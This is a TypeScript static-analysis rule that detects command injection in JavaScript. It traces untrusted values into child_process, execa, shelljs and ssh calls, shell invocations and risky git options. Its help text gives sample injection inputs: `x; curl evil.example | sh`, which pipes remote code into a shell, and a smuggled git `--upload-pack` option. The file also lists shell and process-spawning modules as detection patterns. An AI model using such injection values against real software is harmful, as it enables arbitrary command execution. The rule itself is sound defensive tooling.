import type { Node } from '../syntax';
import { nameOf } from '../flow/calls';
import { javascriptCall } from '../flow/javascript';
import { ordinaryJudge, stripsMarks } from '../flow/judge';
import type { Origin } from '../flow/question';
import { callNamed, flowRule, isFrom, type Sink } from './flowRule';
import { originOf } from './imports';
import { valuesOf } from './options';
import type { ParsedFile } from './parsedFile';
import { constantOf } from './pieces';
import { question } from './shellCommand';
import { spawnedPlainly } from './spawnShell';

const shells = /^(?:.*[\\/])?(?:ba|z|k|da)?sh$|^cmd(?:\.exe)?$|^powershell(?:\.exe)?$|^pwsh$/i;
const modules =
  /^(child_process|child-process-promise|mz\/child_process|cross-spawn|cross-spawn-async|execa|foreground-child|shelljs|exec|execSync|exec-async|node-cmd|ssh2|node-ssh|simple-ssh|remote-exec|async-exec|async-execute|teen_process|spawn-sync|exec-sh|shell-exec|promisify-child-process|win-spawn|gulp-exec|zx|npm-run|which-command|sudo-prompt|node-pty|pty\.js)$/;
const receivers =
  /(^|\.)(child_process|childProcess|cp|child|proc|shell|shelljs|sh|execa|cmd|ssh|conn|connection|sshClient|client|stream)$/;

/** Programs, and commands of other modules, that an outsider decides on. */
export const commandInjection = flowRule({
  id: 'command-injection',
  title: 'A request decides which command runs',
  cwe: ['CWE-78', 'CWE-77', 'CWE-88'],
  languages: ['javascript'],
  severity: 'critical',
  precision: 'high',
  help: {
    why: 'Whoever decides on a program, or on the text that a shell reads, decides what the machine does.',
    attack:
      'A value such as `x; curl evil.example | sh`, or `--upload-pack=touch /tmp/p` for git, runs what the attacker likes.',
    fix: 'Fix the program, pass values as separate arguments without a shell, and put `--` before them.',
    sources: [
      'https://cwe.mitre.org/data/definitions/78.html',
      'https://cheatsheetseries.owasp.org/cheatsheets/OS_Command_Injection_Defense_Cheat_Sheet.html',
    ],
  },
  recipe: { does: 'Starts the program without a shell', review: 'read' },
  topic: /command.?(inj|exec)|\bos.?command|child.?process|\bshell/i,
  words:
    'exec execSync spawn spawnSync execFile execFileSync fork execa execaSync execaCommand execaCommandSync command commandSync shell shellSync sync execCommand execAsync get run crossSpawn spawnAsync'.split(
      ' ',
    ),
  needs:
    'child_process childProcess child cp mz shelljs shell execa spawn cross exec ssh2 ssh SSH Client zx cmd pty proc sh execAsync'.split(
      ' ',
    ),
  modules,
  sinks: sinksAt,
  question: {
    cleans: (call, file) => question.cleans?.(call, file) === true || stripsMarks(call, file),
    // A value that begins so is no option, but can still hold what a shell obeys.
    judge: (guard, file) =>
      guard.kind === 'startsWith' && guard.holds && guard.via === undefined
        ? 'seen'
        : ordinaryJudge(guard, file),
    kinds: new Set(['remote', 'page', 'local', 'library', 'stored', 'response'] as const),
  },
});

function sinksAt(name: Node, file: ParsedFile): readonly Sink[] {
  const site = callNamed(name);
  if (!site) return [];
  const { call } = site;
  const origin = originOf(call.callee, file);
  const called = nameOf(call);
  // The rule for commands in a shell reports these.
  if (origin?.module === 'child_process' && /^exec(Sync)?$/.test(origin.name)) return [];
  if (!isFrom(site, file, modules, receivers)) return [];
  const [program, list] = call.args;
  // A tag quotes the values that it gets.
  if (!program || program.type === 'template_substitution') return [];
  if (
    /^(get|run|command|sync|client)$/.test(called) &&
    !origin &&
    !/cmd|shell|exec/.test(call.receiver?.text ?? '')
  )
    return [];
  const inShell = (value: Node): Sink => ({ value, path: ['*'], does: 'is read by a shell' });
  if (list && mayBeShell(program, file)) return [inShell(list)];
  const fixed = constantOf(program, file);
  const shell = list && list.type !== 'object' && usesShell(call.args, file);
  if (fixed === undefined) {
    return [
      { value: program, does: 'decides which command runs', harms: choosesProgram },
      ...(shell ? [inShell(list)] : []),
    ];
  }
  if (!list) return [];
  if (shell)
    return [{ ...inShell(list), recipe: (origin) => spawnedPlainly(site, fixed, origin, file) }];
  return /^(git|hg|svn)$/.test(fixed) ? optionSinks(list, file) : [];
}

function usesShell(args: readonly Node[], file: ParsedFile): boolean {
  return args.slice(1).some((one) => {
    const options = one.type === 'identifier' ? file.resolve(one)?.value : one;
    return (
      options?.type === 'object' &&
      /\bshell\b['"]?\s*:(?!\s*(?:false|undefined|null)\b)/.test(options.text)
    );
  });
}

/** Whether a program is a shell, or may be one: `windows ? 'cmd' : 'sh'`, `process.env.SHELL`. */
function mayBeShell(program: Node, file: ParsedFile): boolean {
  const text = constantOf(program, file);
  if (text !== undefined) return shells.test(text);
  const binding = program.type === 'identifier' ? file.resolve(program) : undefined;
  return (binding?.definitions.map(({ value }) => value) ?? [program])
    .flatMap((value) => valuesOf(value, file))
    .some((one) => /\benv\.SHELL$/.test(one.text) || shells.test(constantOf(one, file) ?? ''));
}

const risky = /^['"`](clone|fetch|pull|ls-remote|archive|grep|submodule|incoming)['"`]$/;

/** git takes a value that begins with a dash for an option, some of which run programs. */
function optionSinks(list: Node, file: ParsedFile): Sink[] {
  const does = 'may be taken for an option of the program';
  if (list.type !== 'array') {
    const set = list.type === 'identifier' ? file.resolve(list)?.value : list;
    const words = set?.descendantsOfType('string').map(({ text }) => text) ?? [];
    const isRisky =
      words.some((one) => risky.test(one)) && !words.some((one) => separator.test(one));
    return isRisky ? [{ value: list, path: ['*'], does }] : [];
  }
  const items = list.namedChildren;
  const end = items.findIndex(({ text }) => separator.test(text));
  if (!items.some(({ text }) => risky.test(text))) return [];
  return items
    .slice(0, end < 0 ? undefined : end)
    .filter(({ type }) => type !== 'string')
    .map((value) => ({ value, does }));
}

const separator = /^['"`]--['"`]$/;

function nameIn(step: Node): string {
  const call = javascriptCall(step);
  return call ? nameOf(call) : '';
}

/** Whoever calls a function that runs programs, or sets `SHELL`, may choose the program. */
function choosesProgram({ kind, steps }: Origin): boolean {
  if (kind === 'local') return !steps.some(({ text }) => text.startsWith('process.env'));
  if (kind !== 'library') return true;
  return steps.some(
    (step) =>
      /^(template_string|binary_expression)$/.test(step.type) ||
      /^(format|join|concat|sprintf|vsprintf)$/.test(nameIn(step)),
  );
}
